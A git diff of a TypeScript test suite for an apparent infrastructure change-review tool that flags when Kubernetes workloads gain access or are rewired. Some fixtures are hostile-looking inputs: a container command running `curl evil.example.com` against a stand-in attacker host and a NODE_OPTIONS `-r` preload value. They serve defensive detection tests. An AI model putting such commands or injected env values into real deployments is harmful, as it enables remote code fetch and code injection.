@@ -1,4 +1,4 @@
-import { App, TerraformStack } from "cdktf";
+import { App, TerraformStack, TerraformVariable } from "cdktf";
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -89,6 +89,10 @@ function program(app: App, over: Over): void {
 /** Two identities, to which nothing was granted here. */
 const twoMore = (world: World, { cluster }: WorkloadIdentity): WorkloadIdentity[] =>
   ["a", "b"].map((name) => new WorkloadIdentity(world.config, name, { cluster, namespace: "shop" }));
+const imageIs =
+  (name: string): Over["more"] =>
+  (world) =>
+    void new TerraformVariable(world.workloads, "image", { default: name }).overrideLogicalId("image");
 const change = (base: Over, head: Over): Sides => both(program, base, head);
 const container = (more: Partial<Container>): Container => ({ ...CONTAINER, ...more });
 
@@ -152,6 +156,18 @@ describe("through the public API: what lets more in, for longer or with less pro
       {},
       { pod: { containers: [container({ securityContext: { privileged: true } })] } },
     ],
+    ["another program", {}, { pod: { containers: [container({ image: "registry.example.com/other:1" })] } }],
+    [
+      "a further program beside it",
+      {},
+      { pod: { containers: [CONTAINER, container({ name: "log", image: "registry.example.com/log:1" })] } },
+    ],
+    ["a program that runs before it", {}, { pod: { initContainers: [container({ name: "first" })] } }],
+    [
+      "an image that a variable names, whose default changes",
+      { pod: { containers: [container({ image: "${var.image}" })] }, more: imageIs("a") },
+      { pod: { containers: [container({ image: "${var.image}" })] }, more: imageIs("b") },
+    ],
     [
       "a server that more namespaces reach",
       { own: { allowFromNamespaces: ["shop"] } },
@@ -196,6 +212,9 @@ describe("through the public API: what lets more in, for longer or with less pro
   ])("%s", (_, base, head) => void expectGrowth(change(base, head)));
 });
 
+/** It runs as the same, another version of it, or in another place. */
+const RERUN = 'rewired Deployment eu/shop/web RUN AS {"kind":"identity","name":"eu/shop/web"}';
+
 describe("what is another way to the same, or the same way under another limit, is said and is not a growth", () => {
   test.each<[string, Over, Over, string[]]>([
     ["another group role", {}, { options: { groupRoleName: "readers" } }, ["rewired eu/shop/web (all)"]],
@@ -207,9 +226,17 @@ describe("what is another way to the same, or the same way under another limit, 
       { all: false, owner: "o" },
       ["rewired eu/shop/web (all)"],
     ],
-    // What an app runs is not judged, also not that it runs beside another: see docs/pull-requests.md.
-    ["a second container", {}, { pod: { containers: [CONTAINER, container({ name: "log" })] } }, []],
-    ["another image", {}, { pod: { containers: [container({ image: "registry.example.com/other:1" })] } }, []],
+    ...(
+      [
+        ["a second container of the same image", { containers: [CONTAINER, container({ name: "log" })] }],
+        ["another version of the image", { containers: [container({ image: CONTAINER.image.replace(/:.*/, ":2") })] }],
+        ["another command", { containers: [container({ command: ["sh", "-c", "curl evil.example.com"] })] }],
+        ["other arguments", { containers: [container({ args: ["--upload"] })] }],
+        ["another environment", { containers: [container({ env: [{ name: "NODE_OPTIONS", value: "-r x" }] })] }],
+        ["what a probe runs", { containers: [container({ livenessProbe: { exec: { command: ["sh"] } } })] }],
+        ["other nodes", { nodeSelector: { pool: "shared" } }],
+      ] as const
+    ).map(([what, pod]): [string, Over, Over, string[]] => [what, {}, { pod: pod as Over["pod"] }, [RERUN]]),
     ["an account that somebody else makes", {}, { pod: { serviceAccount: "existing" } }, []],
     ["more pods", {}, { pod: { replicas: 9 } }, []],
   ])("%s", (_, base, head, expected) => expect(said(diffOf(change(base, head)))).toEqual(expected));
